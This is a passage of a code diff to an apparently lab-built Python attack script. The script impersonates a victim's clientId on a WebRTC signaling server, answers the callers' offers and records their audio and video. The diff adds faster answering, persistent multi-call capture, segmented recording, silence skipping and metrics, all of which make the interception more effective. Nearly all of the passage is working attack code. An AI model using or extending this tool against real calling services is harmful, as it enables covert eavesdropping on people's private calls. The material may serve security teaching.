@@ -15,28 +15,129 @@ This script:
 
 It DOES NOT show live video. Instead, it records the incoming stream to
 a media file (.webm recommended; .mp4 may work depending on codecs).
+
+The media stack (aiortc, PyAV, codecs, crypto) is imported on demand, not
+at startup: see load_media_stack(). --startup-profile reports where the
+time to the first answer goes, and --loop-profile (common/loopmon.py) where
+the event loop stalls once it runs.
 """
 
 import argparse
 import asyncio
+import functools
 import json
+import os
+import sys
+import threading
+import time
 from dataclasses import dataclass
 from datetime import datetime, timezone
 from pathlib import Path
-from typing import Optional
+from typing import TYPE_CHECKING, List, Optional
 
 import websockets
-from websockets import WebSocketClientProtocol
-
-from aiortc import (
-    RTCPeerConnection,
-    RTCSessionDescription,
-    RTCIceCandidate,
-    RTCConfiguration,
-    RTCIceServer,
-    MediaStreamTrack,
+
+# Shared helpers live in part2_attack/common/, one level above this script.
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from common import logsink, loopmon, startup, supervisor  # noqa: E402
+from common.signaling_client import QUEUED_TYPES, ROUTED_TYPES, SignalingClient  # noqa: E402
+
+if TYPE_CHECKING:
+    from aiortc import MediaStreamTrack, RTCConfiguration, RTCPeerConnection
+    from websockets import WebSocketClientProtocol
+
+STARTUP = startup.StartupProfile()
+STARTUP.mark("module imports")
+
+# Values accepted by --capture-mode.
+CAPTURE_MODES = ("recorder", "passthrough", "process")
+
+# Values accepted by --encode-on-full (encoder_pool.ON_FULL_POLICIES; that
+# module is part of the media stack and not imported at startup).
+ENCODE_ON_FULL_POLICIES = ("drop", "block")
+
+
+# ---------------------------------------------------------------------------
+# Media stack (imported on demand)
+# ---------------------------------------------------------------------------
+
+# aiortc pulls in PyAV, the codec libraries, cryptography and aioice, and the
+# capture helpers import aiortc / av / numpy themselves. Together they take
+# far longer to import than everything else, so none of it is imported at
+# module load: --help, a bad flag, connecting and registering never wait for
+# it. load_media_stack() imports it on first use, and run_attack() starts that
+# in a worker thread right away (unless --no-preload), so it is normally done
+# before the offer arrives. Dependencies are listed first so that the startup
+# profile shows their cost separately.
+MEDIA_MODULES = (
+    "numpy", "av", "cryptography", "aioice", "aiortc", "aiortc.contrib.media",
+    "activity", "encoder_pool", "media_stats", "passthrough", "segments",
 )
-from aiortc.contrib.media import MediaRecorder
+
+# Set by load_media_stack().
+aiortc = None
+MediaRecorder = None
+activity = None
+encoder_pool = None
+media_stats = None
+passthrough = None
+segments = None
+
+_media_lock = threading.Lock()
+_media_preload: Optional[asyncio.Future] = None
+
+
+def load_media_stack() -> None:
+    """
+    Import the media stack (once; safe to call from any thread).
+    """
+    global aiortc, MediaRecorder, activity, encoder_pool, media_stats, passthrough, segments
+    with _media_lock:
+        if segments is not None:
+            return
+        modules = STARTUP.import_modules(MEDIA_MODULES)
+        aiortc = modules["aiortc"]
+        MediaRecorder = modules["aiortc.contrib.media"].MediaRecorder
+        activity = modules["activity"]
+        encoder_pool = modules["encoder_pool"]
+        media_stats = modules["media_stats"]
+        passthrough = modules["passthrough"]
+        segments = modules["segments"]
+
+
+def preload_media_stack() -> None:
+    """
+    Start load_media_stack() in a worker thread (once).
+    """
+    global _media_preload
+    if segments is not None or _media_preload is not None:
+        return
+    t0 = time.perf_counter()
+
+    def done(future: asyncio.Future) -> None:
+        if future.cancelled():
+            return
+        if future.exception() is not None:
+            log(f"[!] Preloading the media stack failed: {future.exception()!r}")
+        else:
+            STARTUP.mark("media stack preloaded")
+            log(f"[*] Media stack preloaded in {(time.perf_counter() - t0) * 1e3:.1f} ms.")
+
+    _media_preload = asyncio.get_running_loop().run_in_executor(None, load_media_stack)
+    _media_preload.add_done_callback(done)
+
+
+async def media_stack_ready() -> None:
+    """
+    Wait for the preload started by preload_media_stack(), or import the
+    media stack now if none was started.
+    """
+    if segments is not None:
+        return
+    if _media_preload is not None and not _media_preload.done():
+        await _media_preload
+    load_media_stack()
 
 
 # ---------------------------------------------------------------------------
@@ -51,11 +152,35 @@ def utc_timestamp() -> str:
     return datetime.now(timezone.utc).isoformat(timespec="seconds").replace("+00:00", "Z")
 
 
+# ICE servers used when AttackConfig.ice_servers is None.
+DEFAULT_ICE_SERVERS = ["stun:stun.l.google.com:19302"]
+
+# Optional file sink, set up in main() when --log-file is given.
+LOG_SINK: Optional[logsink.LogSink] = None
+
+
 def log(msg: str) -> None:
     """
     Consistent logging helper: prefixes every line with a UTC timestamp.
+    Lines are also queued to LOG_SINK (if any); its writer thread does the
+    file I/O so the event loop never waits on disk.
     """
-    print(f"[{utc_timestamp()}] {msg}")
+    line = f"[{utc_timestamp()}] {msg}"
+    print(line)
+    if LOG_SINK is not None:
+        LOG_SINK.write(line)
+
+
+# Event-loop monitor, set up in run_attack() with --loop-profile.
+LOOP_MONITOR: Optional[loopmon.LoopMonitor] = None
+
+
+def hooked(name: str, fn):
+    """
+    `fn` timed under `name` by LOOP_MONITOR, or `fn` itself when the loop
+    is not being profiled.
+    """
+    return fn if LOOP_MONITOR is None else LOOP_MONITOR.wrap(name, fn)
 
 
 @dataclass
@@ -68,120 +193,478 @@ class AttackConfig:
         victim_id    : The clientId we want to hijack (e.g. 'client-a' or 'client-b')
         display_name : Optional display name we send in the registration meta field
         output_file  : Path where the received media will be recorded
+        log_file     : Optional path of a log file (in addition to stdout)
+        log_max_bytes: Rotate log_file beyond this size (0 = never rotate)
+        ice_servers  : STUN/TURN URLs for the RTCPeerConnection
+                       (None = DEFAULT_ICE_SERVERS, [] = host candidates only)
+        ice_username, ice_credential : Credentials for TURN URLs
+        ice_gather_timeout : Upper bound (seconds) on waiting for STUN/TURN
+                       candidates; None keeps aioice's default of 5 s
+        warm         : Prepare the RTCPeerConnection + MediaRecorder while
+                       waiting for the offer instead of after it arrives
+        persistent   : Keep the registration and handle successive calls
+                       (and renegotiation offers) instead of stopping
+                       after the first call
+        capture_mode : "recorder" (aiortc MediaRecorder, decode + re-encode),
+                       "passthrough" (store the received VP8/Opus as-is) or
+                       "process" (decode, re-encode in a worker process)
+        encode_queue : Frames per track that may wait for the worker process
+        encode_on_full : "drop" or "block" when encode_queue is full
+        segment_seconds, segment_mb : Start a new recording segment after
+                       this many seconds / megabytes (0 = no limit; both 0
+                       = a single output_file)
+        segment_keep : Segments kept on disk (0 = all)
+        vad          : Skip long silences in the recorded audio (see activity.py;
+                       decoded capture modes only)
+        vad_threshold_db : Window level (dBFS) counted as activity
+        vad_window_ms : Analysis window length
+        vad_hangover_ms : Audio still recorded after the last active frame
+        stats_interval : Seconds between per-track media stats samples (0 = off)
+        metrics_host, metrics_port : Serve the latest sample in Prometheus text
+                       format on this address (port None = no endpoint)
+        reconnect_first_delay, reconnect_max_delay : Reconnect backoff bounds
+                       (seconds, see common/supervisor.py)
+        ping_interval, ping_timeout : Liveness ping period and pong deadline
+                       (seconds; ping_interval 0 = no pings)
+        preload      : Import the media stack in the background from the
+                       start instead of when the offer arrives
+        startup_profile : Log the startup profile once the answer is sent
+        loop_profile : Measure event-loop lag, time the signaling and peer
+                       connection handlers and log stalls (common/loopmon.py)
+        loop_threshold_ms : Loop lag logged as a stall, with the loop's stack
     """
     server_url: str
     victim_id: str
     display_name: Optional[str]
     output_file: Path
+    log_file: Optional[Path] = None
+    log_max_bytes: int = 0
+    ice_servers: Optional[List[str]] = None
+    ice_username: Optional[str] = None
+    ice_credential: Optional[str] = None
+    ice_gather_timeout: Optional[float] = None
+    warm: bool = False
+    persistent: bool = False
+    capture_mode: str = "recorder"
+    encode_queue: int = 8
+    encode_on_full: str = "drop"
+    segment_seconds: float = 0.0
+    segment_mb: float = 0.0
+    segment_keep: int = 0
+    vad: bool = False
+    vad_threshold_db: float = -45.0
+    vad_window_ms: float = 20.0
+    vad_hangover_ms: float = 500.0
+    stats_interval: float = 5.0
+    metrics_host: str = "127.0.0.1"
+    metrics_port: Optional[int] = None
+    reconnect_first_delay: float = 0.1
+    reconnect_max_delay: float = 30.0
+    ping_interval: float = 5.0
+    ping_timeout: float = 5.0
+    preload: bool = True
+    startup_profile: bool = False
+    loop_profile: bool = False
+    loop_threshold_ms: float = 100.0
 
 
-# ---------------------------------------------------------------------------
-# Core attack logic
-# ---------------------------------------------------------------------------
+@dataclass
+class OfferTimings:
+    """
+    Durations (seconds) of the phases between receiving an offer and
+    sending the answer, filled in by handle_offer_and_media().
 
-async def handle_offer_and_media(
-    ws: WebSocketClientProtocol,
-    cfg: AttackConfig,
-    offer_message: dict,
-) -> None:
+    Attributes:
+        setup         : MediaRecorder + RTCConfiguration + RTCPeerConnection construction
+                        (only the hand-over when a warm peer was used)
+        set_remote    : pc.setRemoteDescription(offer)
+        create_answer : pc.createAnswer()
+        set_local     : pc.setLocalDescription(answer), including ICE gathering
+        ice_gather    : The ICE gathering part of set_local
+        send_answer   : Serializing and sending the answer frame
+        total         : Offer received -> answer handed to the websocket
+        warm_prepare  : Construction time spent *before* the offer arrived
+                        (0 unless a warm peer was used); this is what warm
+                        mode takes off the offer critical path
     """
-    Handle a single WebRTC offer from the signaling server:
+    setup: float = 0.0
+    set_remote: float = 0.0
+    create_answer: float = 0.0
+    set_local: float = 0.0
+    ice_gather: float = 0.0
+    send_answer: float = 0.0
+    total: float = 0.0
+    warm_prepare: float = 0.0
 
-    1. Parse the SDP offer and caller's clientId ("from" field).
-    2. Create an RTCPeerConnection + MediaRecorder.
-    3. Set the remote description (offer), generate an answer,
-       set the local description.
-    4. Send the answer back to the caller through the signaling server.
-    5. Keep the connection alive to receive media and handle ICE candidates.
+    PHASES = ("setup", "set_remote", "create_answer", "set_local", "ice_gather",
+              "send_answer", "total")
+
+    def summary(self) -> str:
+        return " ".join(f"{name}={getattr(self, name) * 1e3:.1f}ms" for name in self.PHASES)
+
+
+@dataclass
+class PeerResources:
     """
+    The objects handle_offer_and_media() needs before it can apply an offer.
 
-    # ------------------------------------------------------------------
-    # 1. Extract essential fields from the offer
-    # ------------------------------------------------------------------
-    sdp: str = offer_message.get("sdp", "")
-    from_client: Optional[str] = offer_message.get("from")
+    Attributes:
+        pc          : The RTCPeerConnection that will answer the offer
+        recorder    : MediaRecorder (or PassthroughRecorder) writing to cfg.output_file
+        prepared_in : Seconds it took to construct both
+    """
+    pc: "RTCPeerConnection"
+    recorder: object
+    prepared_in: float
 
-    if not sdp:
-        log("[!] Received 'offer' message WITHOUT SDP. Cannot proceed.")
-        return
+    async def close(self) -> None:
+        """
+        Release resources that were never used for a call.
+        """
+        await self.recorder.stop()
+        await self.pc.close()
 
-    if not from_client:
-        log("[!] Received 'offer' message WITHOUT 'from' field. Cannot respond.")
-        return
 
-    log(f"[+] Intercepted WebRTC offer from caller '{from_client}' "
-        f"intended for victim '{cfg.victim_id}'.")
+def build_rtc_configuration(cfg: AttackConfig) -> "RTCConfiguration":
+    """
+    Build the RTCConfiguration from cfg.ice_servers / credentials.
+
+    An empty list is passed through explicitly: aiortc falls back to its
+    own default STUN server only when iceServers is None.
+    """
+    ice_urls = DEFAULT_ICE_SERVERS if cfg.ice_servers is None else cfg.ice_servers
+    if not ice_urls:
+        return aiortc.RTCConfiguration(iceServers=[])
+    return aiortc.RTCConfiguration(iceServers=[
+        aiortc.RTCIceServer(urls=ice_urls, username=cfg.ice_username, credential=cfg.ice_credential)
+    ])
+
+
+def bound_ice_gathering(pc: "RTCPeerConnection", timeout: float) -> int:
+    """
+    Cap how long the ICE gatherers of `pc` wait for STUN/TURN candidates.
+
+    aiortc has no option for this; aioice waits up to 5 s per component in
+    Connection.get_component_candidates(timeout=5), which is the delay seen
+    when the STUN server is unreachable. Host candidates are collected
+    before that wait and are always kept. Must be called after
+    setRemoteDescription() (which creates the transports) and before
+    setLocalDescription() (which gathers). Returns the number of gatherers
+    that were bounded.
+    """
+    transports = [t.receiver.transport for t in pc.getTransceivers()]
+    if pc.sctp is not None:
+        transports.append(pc.sctp.transport)
+
+    bounded = 0
+    seen = set()
+    for dtls in transports:
+        if dtls is None or id(dtls) in seen:
+            continue
+        seen.add(id(dtls))
+        connection = getattr(dtls.transport.iceGatherer, "_connection", None)
+        method = getattr(type(connection), "get_component_candidates", None)
+        if method is None:
+            continue
+        connection.get_component_candidates = functools.partial(
+            method, connection, timeout=timeout
+        )
+        bounded += 1
+    return bounded
+
+
+def describe_candidates(sdp: str) -> str:
+    """
+    Count a=candidate lines in an SDP by type, e.g. "2 host, 1 srflx, 0 relay".
+    """
+    counts = {"host": 0, "srflx": 0, "relay": 0}
+    for line in sdp.splitlines():
+        if line.startswith("a=candidate:"):
+            parts = line.split()
+            if "typ" in parts:
+                kind = parts[parts.index("typ") + 1]
+                counts[kind] = counts.get(kind, 0) + 1
+    return ", ".join(f"{n} {kind}" for kind, n in counts.items())
+
+
+def children_cpu_time() -> float:
+    """
+    User + system CPU seconds of the child processes that have been waited
+    for (0 where the platform does not report them, e.g. Windows).
+    """
+    t = os.times()
+    return t.children_user + t.children_system
 
-    # ------------------------------------------------------------------
-    # 2. Prepare output directory + MediaRecorder
-    # ------------------------------------------------------------------
-    output_path = cfg.output_file
-    output_path.parent.mkdir(parents=True, exist_ok=True)
-    log(f"[*] Recorded media will be saved to: '{output_path}'")
 
+def make_recorder(cfg: AttackConfig, path: str):
+    """
+    Build the recorder for cfg.capture_mode writing to `path`.
+    """
+    is_webm = path.lower().endswith(".webm")
+    if cfg.capture_mode == "passthrough":
+        return passthrough.PassthroughRecorder(path, log=log)
+    if cfg.capture_mode == "process":
+        return encoder_pool.ProcessRecorder(
+            path,
+            format="webm" if is_webm else None,
+            queue_size=cfg.encode_queue,
+            on_full=cfg.encode_on_full,
+        )
     # Prefer explicit format for WebM; otherwise let PyAV guess.
-    if output_path.suffix.lower() == ".webm":
-        recorder = MediaRecorder(str(output_path), format="webm")
+    return MediaRecorder(path, format="webm" if is_webm else None)
+
+
+async def request_keyframes(pc: "RTCPeerConnection") -> None:
+    """
+    Send a PLI for every incoming video stream, so the sender's next frame
+    is a keyframe (used when a new recording segment starts).
+    """
+    for receiver in pc.getReceivers():
+        if receiver.track is None or receiver.track.kind != "video":
+            continue
+        for source in receiver.getSynchronizationSources():
+            # aiortc has no public API for this; it sends PLIs itself only
+            # on decoder errors.
+            await receiver._send_rtcp_pli(source.source)
+
+
+def create_peer(cfg: AttackConfig, output_file: Optional[Path] = None) -> PeerResources:
+    """
+    Create the output directory, MediaRecorder and RTCPeerConnection
+    (importing the media stack first if needed). The recording goes to
+    `output_file`, default cfg.output_file.
+    """
+    load_media_stack()
+    t0 = time.perf_counter()
+
+    output_path = output_file if output_file is not None else cfg.output_file
+    output_path.parent.mkdir(parents=True, exist_ok=True)
+
+    if cfg.capture_mode == "passthrough":
+        # Receivers must be created after this so they skip decoding.
+        passthrough.install_passthrough_decoders()
+
+    pc = aiortc.RTCPeerConnection(build_rtc_configuration(cfg))
+
+    if cfg.segment_seconds > 0 or cfg.segment_mb > 0:
+        recorder = segments.SegmentedRecorder(
+            output_path,
+            make_recorder=lambda path: make_recorder(cfg, path),
+            segment_seconds=cfg.segment_seconds,
+            segment_bytes=int(cfg.segment_mb * 1024 * 1024),
+            keep=cfg.segment_keep,
+            request_keyframe=lambda: request_keyframes(pc),
+            log=log,
+        )
     else:
-        recorder = MediaRecorder(str(output_path))
+        recorder = make_recorder(cfg, str(output_path))
 
-    # ------------------------------------------------------------------
-    # 3. Create RTCPeerConnection
-    # ------------------------------------------------------------------
-    rtc_config = RTCConfiguration(
-        iceServers=[RTCIceServer(urls=["stun:stun.l.google.com:19302"])]
-    )
-    pc = RTCPeerConnection(rtc_config)
+    return PeerResources(pc=pc, recorder=recorder, prepared_in=time.perf_counter() - t0)
 
-    log("[*] RTCPeerConnection created.")
 
-    remote_client_id = from_client
+class WarmPeer:
+    """
+    Prepares one PeerResources in the background while run_attack() is
+    still waiting for registration and the offer (--warm).
+
+    prepare() is started as a task right after connecting; take() hands the
+    prepared objects over when the offer lands (waiting for preparation to
+    finish if necessary); close() releases them if they were never taken.
+    """
+
+    def __init__(self, cfg: AttackConfig, output_file: Optional[Path] = None) -> None:
+        self.cfg = cfg
+        self.output_file = output_file
+        self._task: Optional[asyncio.Task] = None
+
+    def start(self) -> None:
+        if self._task is None:
+            self._task = asyncio.create_task(self._prepare())
+
+    async def _prepare(self) -> PeerResources:
+        # Let the caller's pending sends/receives go first.
+        await asyncio.sleep(0)
+        await media_stack_ready()
+        peer = create_peer(self.cfg, self.output_file)
+        log(f"[*] Warm RTCPeerConnection + MediaRecorder prepared in "
+            f"{peer.prepared_in * 1e3:.1f} ms (before the offer).")
+        return peer
+
+    async def take(self) -> Optional[PeerResources]:
+        """
+        Return the prepared resources (ownership passes to the caller), or
+        None if preparation failed.
+        """
+        task, self._task = self._task, None
+        if task is None:
+            return None
+        try:
+            return await task
+        except Exception as e:
+            log(f"[!] Warm peer preparation failed, falling back to cold setup: {e!r}")
+            return None
+
+    async def close(self) -> None:
+        """
+        Release resources that were prepared but never taken.
+        """
+        task, self._task = self._task, None
+        if task is None:
+            return
+        if not task.done():
+            task.cancel()
+        try:
+            peer = await task
+        except (asyncio.CancelledError, Exception):
+            return
+        await peer.close()
+        log("[*] Unused warm RTCPeerConnection closed.")
+
+
+# ---------------------------------------------------------------------------
+# Core attack logic
+# ---------------------------------------------------------------------------
+
+def call_output_file(cfg: AttackConfig, index: int) -> Path:
+    """
+    Recording path for call `index` in persistent mode, e.g.
+    recordings/intercepted_media.call002.webm.
+    """
+    path = cfg.output_file
+    return path.with_name(f"{path.stem}.call{index:03d}{path.suffix}")
+
+
+class CallSession:
+    """
+    One intercepted call: the RTCPeerConnection answering one caller, its
+    recorder and media stats, and every offer / answer exchanged on it.
+
+    The peer connection's event handlers are installed on construction;
+    negotiate() applies an offer (the first one or a renegotiation) and
+    sends the answer, add_remote_ice() applies a trickled candidate, and
+    close() stops the recorder and closes the connection. `ended` is set
+    once the peer connection has failed or been closed by the caller.
+    """
 
-    # Flags for recorder start logic
-    recorder_started = False
-    recorder_start_task: Optional[asyncio.Task] = None
+    def __init__(self, signaling: SignalingClient, cfg: AttackConfig, caller: str,
+                 peer: PeerResources, output_file: Path, index: int = 1) -> None:
+        self.signaling = signaling
+        self.cfg = cfg
+        self.caller = caller
+        self.peer = peer
+        self.pc = peer.pc
+        self.recorder = peer.recorder
+        self.output_file = output_file
+        self.index = index
+        self.timings: List[OfferTimings] = []
+        self.ended = asyncio.Event()
+        self.opened_at = time.perf_counter()
+        self.closed_at: Optional[float] = None
+
+        # Audio tracks passed through activity.SilenceSkippingTrack (--vad).
+        self.vad_tracks: List[object] = []
+
+        # Flags for recorder start logic
+        self.recorder_started = False
+        self._recorder_start_task: Optional[asyncio.Task] = None
+
+        # Process CPU time and wall time when recording started, used to
+        # report CPU seconds per second of media for the chosen capture mode.
+        self._record_cpu_start = 0.0
+        self._record_children_cpu_start = 0.0
+        self._record_wall_start = 0.0
+
+        # The OfferTimings being filled in by negotiate(), for ICE gathering.
+        self._negotiating: Optional[OfferTimings] = None
+        self._gather_started: Optional[float] = None
+
+        self.stats: Optional[media_stats.MediaStatsCollector] = None
+        if cfg.stats_interval > 0 or cfg.metrics_port is not None:
+            self.stats = media_stats.MediaStatsCollector(
+                self.pc, self.recorder, cfg.stats_interval, log=log)
+
+        self.pc.on("track", hooked("pc.track", self._on_track))
+        self.pc.on("icecandidate", hooked("pc.icecandidate", self._on_icecandidate))
+        self.pc.on("iceconnectionstatechange",
+                   hooked("pc.iceconnectionstatechange", self._on_ice_state_change))
+        self.pc.on("icegatheringstatechange",
+                   hooked("pc.icegatheringstatechange", self._on_ice_gathering_state_change))
+        self.pc.on("connectionstatechange",
+                   hooked("pc.connectionstatechange", self._on_connection_state_change))
 
     # ------------------------------------------------------------------
-    # 4. Event handlers on the peer connection
+    # Event handlers on the peer connection
     # ------------------------------------------------------------------
 
-    @pc.on("track")
-    async def on_track(track: MediaStreamTrack):
+    async def _on_track(self, track: "MediaStreamTrack") -> None:
         """
         Called whenever a remote media track (audio or video) is received
         from the browser.
         """
-        nonlocal recorder_started, recorder_start_task
-
         log(f"[+] New incoming media track: kind='{track.kind}'")
 
-        # Attach both audio and video tracks to the recorder
-        recorder.addTrack(track)
+        if self.recorder_started:
+            # The container's streams are fixed once recording has started.
+            log(f"[!] {track.kind.capitalize()} track added by renegotiation is not "
+                f"recorded ({type(self.recorder).__name__} already started).")
+            return
+
+        # Attach both audio and video tracks to the recorder (through the
+        # stats collector's frame counter when enabled, and for audio the
+        # silence filter with --vad)
+        stats = self.stats
+        source = stats.add_track(track) if stats is not None else track
+        if (track.kind == "audio" and self.cfg.vad
+                and self.cfg.capture_mode != "passthrough"):
+            manifest = activity.ActivityManifest(
+                self.output_file.with_suffix(".activity.json"),
+                self.output_file,
+                {"threshold_db": self.cfg.vad_threshold_db,
+                 "window_ms": self.cfg.vad_window_ms,
+                 "hangover_ms": self.cfg.vad_hangover_ms,
+                 "preroll_ms": activity.DEFAULT_PREROLL_MS},
+            )
+            source = activity.SilenceSkippingTrack(
+                source, manifest,
+                threshold_db=self.cfg.vad_threshold_db,
+                window_ms=self.cfg.vad_window_ms,
+                hangover_ms=self.cfg.vad_hangover_ms,
+            )
+            self.vad_tracks.append(source)
+            log(f"[*] Audio activity detection on: silences are skipped and "
+                f"listed in '{manifest.path}'.")
+        self.recorder.addTrack(source)
         log(f"[*] {track.kind.capitalize()} track attached to MediaRecorder.")
 
         # Start recorder once, slightly delayed, so both tracks have time to arrive
-        if not recorder_started and recorder_start_task is None:
-            async def delayed_start():
-                nonlocal recorder_started
-                # Small delay to allow both audio + video to be added
-                await asyncio.sleep(0.5)
-                if not recorder_started:
-                    log("[*] Starting MediaRecorder (audio + video if available) ...")
-                    await recorder.start()
-                    recorder_started = True
-                    log("[+] MediaRecorder started.")
-
-            recorder_start_task = asyncio.create_task(delayed_start())
-
-        @track.on("ended")
+        if self._recorder_start_task is None:
+            self._recorder_start_task = asyncio.create_task(self._delayed_start())
+
         async def on_ended():
             """
             Called when the track ends (e.g., browser stops sending media).
             """
             log(f"[!] Track '{track.kind}' ended.")
 
-    @pc.on("icecandidate")
-    def on_icecandidate(candidate):
+        track.on("ended", hooked("track.ended", on_ended))
+
+    async def _delayed_start(self) -> None:
+        # Small delay to allow both audio + video to be added
+        await asyncio.sleep(0.5)
+        if self.recorder_started or self.closed_at is not None:
+            return
+        recorder = self.recorder
+        log(f"[*] Starting {type(recorder).__name__} (audio + video if available) ...")
+        self._record_cpu_start = time.process_time()
+        self._record_children_cpu_start = children_cpu_time()
+        self._record_wall_start = time.perf_counter()
+        await recorder.start()
+        self.recorder_started = True
+        log(f"[+] {type(recorder).__name__} started.")
+        if self.stats is not None:
+            await self.stats.start(self.cfg.metrics_host, self.cfg.metrics_port)
+
+    def _on_icecandidate(self, candidate) -> None:
         """
         Called when the local ICE agent finds a new candidate that should be
         sent to the remote peer (browser) via the signaling server.
@@ -190,10 +673,6 @@ async def handle_offer_and_media(
             log("[*] Local ICE gathering complete.")
             return
 
-        if not remote_client_id:
-            log("[!] Local ICE candidate generated but remote_client_id is unknown; ignoring.")
-            return
-
         # In this lab setup, the browser typically doesn't *require*
         # our ICE candidates to succeed (loopback / LAN), but we send them
         # anyway for correctness. We serialize candidate using the SDP string.
@@ -206,7 +685,7 @@ async def handle_offer_and_media(
             return
 
         candidate_payload = {
-            "to": remote_client_id,
+            "to": self.caller,
             "type": "ice",
             "candidate": {
                 "candidate": candidate_sdp,
@@ -217,98 +696,480 @@ async def handle_offer_and_media(
             },
         }
 
-        msg_text = json.dumps(candidate_payload)
-        log(f"[C → S] Sending local ICE candidate to '{remote_client_id}': {msg_text}")
+        # Queued behind the answer on the client's ordered outbound queue;
+        # write failures are counted and logged by the client.
+        msg_text = self.signaling.post(candidate_payload)
+        log(f"[C → S] Queued local ICE candidate for '{self.caller}': {msg_text}")
+
+    async def _on_ice_state_change(self) -> None:
+        log(f"[*] ICE connection state changed: {self.pc.iceConnectionState}")
+
+    def _on_ice_gathering_state_change(self) -> None:
+        if self.pc.iceGatheringState == "gathering":
+            self._gather_started = time.perf_counter()
+        elif (self.pc.iceGatheringState == "complete" and self._gather_started is not None
+              and self._negotiating is not None):
+            self._negotiating.ice_gather = time.perf_counter() - self._gather_started
+
+    def _on_connection_state_change(self) -> None:
+        if self.pc.connectionState in ("failed", "closed") and not self.ended.is_set():
+            log(f"[*] Call {self.index}: peer connection {self.pc.connectionState}.")
+            self.ended.set()
+
+    # ------------------------------------------------------------------
+    # Signaling
+    # ------------------------------------------------------------------
+
+    async def negotiate(self, sdp: str, timings: OfferTimings,
+                        t_start: Optional[float] = None) -> None:
+        """
+        Apply an offer from the caller and send the answer, recording each
+        phase in `timings` (total counts from `t_start`, default now).
+        Works for the first offer and for renegotiation offers alike.
+        """
+        pc = self.pc
+        if t_start is None:
+            t_start = time.perf_counter()
+        t_phase = time.perf_counter()
+        self._negotiating = timings
+
+        # --------------------------------------------------------------
+        # Set the remote description (offer) and create an answer
+        # --------------------------------------------------------------
+        offer = aiortc.RTCSessionDescription(sdp=sdp, type="offer")
+        await pc.setRemoteDescription(offer)
+        log("[+] Remote description (offer) set on RTCPeerConnection.")
+        now = time.perf_counter()
+        timings.set_remote, t_phase = now - t_phase, now
+
+        log("[*] Creating SDP answer ...")
+        answer = await pc.createAnswer()
+        now = time.perf_counter()
+        timings.create_answer, t_phase = now - t_phase, now
+
+        if self.cfg.ice_gather_timeout is not None:
+            bound_ice_gathering(pc, self.cfg.ice_gather_timeout)
+
+        await pc.setLocalDescription(answer)
+        log("[+] Local description (answer) set.")
+        now = time.perf_counter()
+        timings.set_local, t_phase = now - t_phase, now
+        log(f"[*] ICE gathering took {timings.ice_gather * 1e3:.1f} ms "
+            f"({describe_candidates(pc.localDescription.sdp)} candidate(s)).")
+
+        # --------------------------------------------------------------
+        # Send the 'answer' message via signaling server
+        # --------------------------------------------------------------
+        answer_payload = {
+            "to": self.caller,
+            "type": "answer",
+            "sdp": pc.localDescription.sdp,
+        }
+        log(f"[C → S] Sending intercepted SDP answer back to caller '{self.caller}'.")
+        await self.signaling.send(answer_payload)
+        now = time.perf_counter()
+        timings.send_answer = now - t_phase
+        timings.total = now - t_start
+        self._negotiating = None
+        self.timings.append(timings)
+
+        log(f"[*] Offer-to-answer timings: {timings.summary()}")
+
+    async def add_remote_ice(self, msg: dict) -> None:
+        cand_obj = msg.get("candidate")
+        if not cand_obj:
+            log("[!] 'ice' message without 'candidate' field; ignoring.")
+            return
+
+        try:
+            candidate = aiortc.RTCIceCandidate(
+                cand_obj.get("sdpMid"),
+                cand_obj.get("sdpMLineIndex"),
+                cand_obj.get("candidate"),
+            )
+            log(f"[+] Adding remote ICE candidate from '{msg.get('from', 'unknown')}': "
+                f"{cand_obj}")
+            await self.pc.addIceCandidate(candidate)
+        except Exception as e:
+            log(f"[!] Failed to add remote ICE candidate: {e}")
+
+    # ------------------------------------------------------------------
+    # Teardown
+    # ------------------------------------------------------------------
+
+    async def close(self) -> None:
+        """
+        Stop the recorder and media stats and close the peer connection.
+        """
+        if self.closed_at is not None:
+            return
+        self.closed_at = time.perf_counter()
+        cfg = self.cfg
+        recorder = self.recorder
+
+        log("[*] Cleaning up: stopping recorder and closing RTCPeerConnection.")
+        if self._recorder_start_task is not None and not self._recorder_start_task.done():
+            self._recorder_start_task.cancel()
+        if self.stats is not None:
+            await self.stats.stop()
+            if self.stats.samples:
+                log(f"[*] Media stats: {self.stats.samples} sample(s), "
+                    f"{self.stats.sample_seconds / self.stats.samples * 1e3:.2f} ms per sample.")
+        try:
+            # Stopped even if it never started: ProcessRecorder's encoder
+            # process runs from construction and MediaRecorder holds its
+            # container open.
+            stopped = True
+            try:
+                await recorder.stop()
+            except Exception as e:  # e.g. the encoder process failed
+                stopped = False
+                log(f"[!] Stopping {type(recorder).__name__} failed: {e!r}")
+            if self.recorder_started:
+                if stopped:
+                    log(f"[+] {type(recorder).__name__} stopped.")
+                own = time.process_time() - self._record_cpu_start
+                # The encoder process(es) of --capture-mode process, counted
+                # once joined by recorder.stop().
+                children = children_cpu_time() - self._record_children_cpu_start
+                cpu = own + children
+                media = time.perf_counter() - self._record_wall_start
+                if isinstance(recorder, passthrough.PassthroughRecorder):
+                    media = recorder.media_seconds or media
+                    log(f"[*] Passthrough capture: {recorder.stats()}")
+                elif isinstance(recorder, encoder_pool.ProcessRecorder):
+                    log(f"[*] Encoder process: {recorder.stats()}")
+                elif isinstance(recorder, segments.SegmentedRecorder):
+                    log(f"[*] Segmented capture: {recorder.stats()}")
+                if media > 0:
+                    log(f"[*] Capture mode '{cfg.capture_mode}': {cpu:.2f} s CPU for "
+                        f"{media:.1f} s of media ({cpu / media:.3f} CPU s per media s; "
+                        f"this process {own:.2f} s, child processes {children:.2f} s).")
+        finally:
+            for track in self.vad_tracks:
+                track.close()
+                log(f"[*] Audio activity: {track.stats()}")
+            await self.pc.close()
+            log("[+] RTCPeerConnection closed.")
+
+    def summary(self) -> str:
+        """
+        One line per call: caller, duration, output, and the setup and
+        offer-to-answer time of the first offer and of renegotiations.
+        """
+        end = self.closed_at if self.closed_at is not None else time.perf_counter()
+        line = (f"call {self.index}: caller={self.caller!r} offers={len(self.timings)} "
+                f"duration={end - self.opened_at:.1f}s "
+                f"recorded={'yes' if self.recorder_started else 'no'} file={self.output_file}")
+        if self.timings:
+            first = self.timings[0]
+            line += f"\n        first offer: setup={first.setup * 1e3:.1f}ms total={first.total * 1e3:.1f}ms"
+            if first.warm_prepare:
+                line += f" (warm, prepared in {first.warm_prepare * 1e3:.1f}ms)"
+            renegotiations = [t.total for t in self.timings[1:]]
+            if renegotiations:
+                line += (f"\n        renegotiations: n={len(renegotiations)} "
+                         f"total mean={sum(renegotiations) / len(renegotiations) * 1e3:.1f}ms "
